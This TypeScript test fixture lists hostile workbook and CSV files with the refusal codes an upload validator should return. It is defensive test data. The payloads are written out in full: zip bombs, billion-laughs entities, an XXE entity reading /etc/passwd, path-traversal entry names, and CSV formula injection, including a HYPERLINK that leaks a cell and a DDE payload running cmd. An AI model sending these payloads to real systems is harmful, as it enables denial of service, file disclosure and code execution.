import { strToU8, zipSync } from 'fflate';
import type { FileSource } from '#shared/contracts/files/opening/file-source.ts';
import { aWorkbook, columnLetters } from './a-workbook.ts';

const MB = 1024 * 1024;
const header = 'upn,category,start_date,surname,sessions\n';
const headerRow = ['upn', 'category', 'start_date', 'surname', 'sessions'];
const row = 'J340123425001,SUSP,14/09/2026,Example,4\n';

/** Head, then the same piece over and over: large without being held anywhere. */
const repeated = (head: string, piece: string, length: number): FileSource => {
  const start = strToU8(head);
  const filler = strToU8(piece.repeat(Math.ceil(65_536 / piece.length)));
  return {
    size: start.length + length,
    read: async function* (from, to) {
      if (from < start.length) yield await Promise.resolve(start.subarray(from, Math.min(to, start.length)));
      for (let at = Math.max(from, start.length); at < to;) {
        const offset = (at - start.length) % filler.length;
        const part = filler.subarray(offset, Math.min(filler.length, offset + to - at));
        yield part;
        at += part.length;
      }
    },
  };
};

const sheet = (rows: string): string => `<?xml version="1.0"?><worksheet><sheetData>${rows}</sheetData></worksheet>`;
const inline = (address: string, text: string): string => `<c r="${address}" t="inlineStr"><is><t>${text}</t></is></c>`;
const inlineHeader = `<row r="1">${headerRow.map((name, index) => inline(`${columnLetters(index + 1)}1`, name)).join('')}</row>`;
const workbook = (parts: Record<string, string | Uint8Array>): Uint8Array =>
  aWorkbook({ sheets: [{ rows: [headerRow, ['J340123425001', 'SUSP', '14/09/2026', 'Example', '4']] }], parts });
const withSheet = (xml: string): Uint8Array => workbook({ 'xl/worksheets/sheet1.xml': xml });

/** Changes every occurrence of some bytes in a zip, as a hostile writer would: lengths stay, so that everything else fits. */
const patched = (bytes: Uint8Array, from: string, to: string): Uint8Array =>
  Buffer.from(Buffer.from(bytes).toString('latin1').replaceAll(from, to), 'latin1');

/** The size that the zip's directory gives for its largest part, made out to be small. */
const understated = (bytes: Uint8Array, actual: number): Uint8Array => {
  const copy = Buffer.from(bytes);
  const wanted = Buffer.alloc(4);
  wanted.writeUInt32LE(actual);
  for (let at = copy.indexOf(wanted); at !== -1; at = copy.indexOf(wanted, at + 4)) copy.writeUInt32LE(1000, at);
  return copy;
};

const laughs = `<!DOCTYPE lolz [<!ENTITY l0 "ha">${Array.from({ length: 30 }, (_, level) => `<!ENTITY l${String(level + 1)} "&l${String(level)};&l${String(level)};">`).join('')}]>`;
const zeros = 'x'.repeat(64 * MB);
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le'));

export interface HostileFile {
  readonly name: string;
  readonly source: () => FileSource | Uint8Array;
  /** Of the refusal of the file, or of its one bad row. */
  readonly code: string;
}

/** Files that somebody made to do harm, or that are as bad as if somebody had. */
export const hostileFiles: readonly HostileFile[] = [
  {
    name: 'a zip bomb in a sheet',
    source: () => withSheet(sheet(`${inlineHeader}<row r="2">${inline('A2', zeros)}</row>`)),
    code: 'workbook-too-large',
  },
  {
    name: 'a zip bomb that understates its size',
    source: () => {
      const xml = sheet(`${inlineHeader}<row r="2">${inline('A2', zeros)}</row>`);
      return understated(aWorkbook({ sheets: [{ xml }] }), strToU8(xml).length);
    },
    code: 'workbook-too-large',
  },
  { name: 'a bomb of spaces between rows', source: () => withSheet(sheet(inlineHeader + ' '.repeat(32 * MB))), code: 'workbook-too-large' },
  {
    name: 'a billion laughs in the sheet',
    source: () => withSheet(`<?xml version="1.0"?>${laughs}${sheet(`<row r="1">${inline('A1', '&l30;')}</row>`).slice(21)}`),
    code: 'workbook-unsafe',
  },
  {
    name: 'a billion laughs in the shared texts',
    source: () => workbook({ 'xl/sharedStrings.xml': `<?xml version="1.0"?>${laughs}<sst><si><t>&l30;</t></si></sst>` }),
    code: 'workbook-unsafe',
  },
  {
    name: 'a billion laughs in the styles',
    source: () => workbook({ 'xl/styles.xml': `${laughs}<styleSheet>&l30;</styleSheet>` }),
    code: 'workbook-unsafe',
  },
  {
    name: 'an external entity',
    source: () => workbook({ 'xl/workbook.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>' }),
    code: 'workbook-unsafe',
  },
  {
    name: 'an external document type',
    source: () => workbook({ '_rels/.rels': '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><Relationships/>' }),
    code: 'workbook-unsafe',
  },
  {
    name: 'an entity nobody declared',
    source: () => withSheet(sheet(`<row r="1">${inline('A1', '&boom;')}</row>`)),
    code: 'workbook-damaged',
  },
  { name: 'names that lead out of the folder', source: () => workbook({ '../../../etc/cron.d/x': 'x' }), code: 'workbook-unsafe' },
  { name: 'names that lead out of a Windows folder', source: () => workbook({ 'xl\\..\\..\\x.exe': 'x' }), code: 'workbook-unsafe' },
  { name: 'absolute names', source: () => workbook({ '/etc/passwd': 'x' }), code: 'workbook-unsafe' },
  {
    name: 'the same name twice',
    source: () =>
      patched(aWorkbook({ sheets: [{ rows: [headerRow] }], parts: { 'xl/workbook.xmx': 'x' } }), 'xl/workbook.xmx', 'xl/workbook.xml'),
    code: 'workbook-unsafe',
  },
  {
    name: 'a part that calls itself something else than the directory does',
    source: () => {
      const bytes = aWorkbook({ sheets: [{ rows: [headerRow] }] });
      return Buffer.from(Buffer.from(bytes).toString('latin1').replace('xl/worksheets/sheet1.xml', 'xl/worksheets/sheet9.xml'), 'latin1');
    },
    code: 'workbook-damaged',
  },
  {
    name: '3,000 parts',
    source: () => workbook(Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`x/${String(index)}`, 'x']))),
    code: 'workbook-too-large',
  },
  { name: 'a workbook cut off', source: () => aWorkbook({ sheets: [{ rows: [headerRow] }] }).subarray(0, 900), code: 'workbook-damaged' },
  { name: 'a workbook with macros', source: () => workbook({ 'xl/vbaProject.bin': 'x' }), code: 'workbook-with-macros' },
  { name: 'a workbook in the binary form', source: () => workbook({ 'xl/workbook.bin': 'x' }), code: 'file-is-office-document' },
  {
    name: 'a text document',
    source: () => zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<x/>') }),
    code: 'file-is-office-document',
  },
  { name: 'a zip with a CSV in it', source: () => zipSync({ 'data.csv': strToU8(header + row) }), code: 'file-is-zip' },
  {
    name: 'a workbook with a password',
    source: () => {
      const bytes = new Uint8Array(4096);
      bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
      bytes.set([9, 0], 30);
      bytes.set([3, 0, 0, 0], 48);
      bytes.set(utf16('EncryptedPackage'), 4 * 512 + 128);
      return bytes;
    },
    code: 'file-password-protected',
  },
  { name: 'rows that run backwards', source: () => withSheet(sheet(`${inlineHeader}<row r="9"/><row r="3"/>`)), code: 'workbook-damaged' },
  { name: 'a row beyond the last', source: () => withSheet(sheet(`${inlineHeader}<row r="99999999999"/>`)), code: 'workbook-damaged' },
  {
    name: 'a sheet with 16,384 columns',
    source: () =>
      withSheet(
        sheet(
          `<row r="1">${Array.from({ length: 16_384 }, (_, index) => inline(`${columnLetters(index + 1)}1`, `c${String(index)}`)).join('')}</row>`,
        ),
      ),
    code: 'columns-too-many',
  },
  {
    name: 'a CSV with 16,384 columns',
    source: () => strToU8(`${header.trim()},${Array.from({ length: 16_380 }, (_, index) => String(index % 10)).join(',')}\n`),
    code: 'columns-too-many',
  },
  {
    name: 'a single cell of 100 MB',
    source: () => repeated(`${header}J340123425001,SUSP,14/09/2026,`, 'x', 100 * MB),
    code: 'row-too-long',
  },
  {
    name: 'a single quoted cell of 100 MB',
    source: () => repeated(`${header}J340123425001,SUSP,14/09/2026,"`, 'x', 100 * MB),
    code: 'row-too-long',
  },
  { name: 'a header of 100 MB', source: () => repeated('upn', 'x', 100 * MB), code: 'header-too-long' },
  { name: 'NUL bytes', source: () => strToU8(`${header}J340123425001,SUSP,14/09/2026,Ex\0ample,4\n`), code: 'file-is-binary' },
  {
    name: 'two encodings',
    source: () => new Uint8Array([...strToU8(`${header}J340123425001,SUSP,14/09/2026,Zoë,4\n`), 0x5a, 0x6f, 0xeb, 0x0a]),
    code: 'file-mixed-encodings',
  },
  {
    name: 'a formula',
    source: () => strToU8(`${header}J340123425001,SUSP,14/09/2026,"=HYPERLINK(""http://127.0.0.1/?""&A1)",4\n`),
    code: 'text-formula',
  },
  {
    name: 'a call to another program',
    source: () => strToU8(`${header}J340123425001,SUSP,14/09/2026,@SUM(1+1)*cmd|' /C calc'!A0,4\n`),
    code: 'text-formula',
  },
];

export const goodFile = strToU8(header + row);
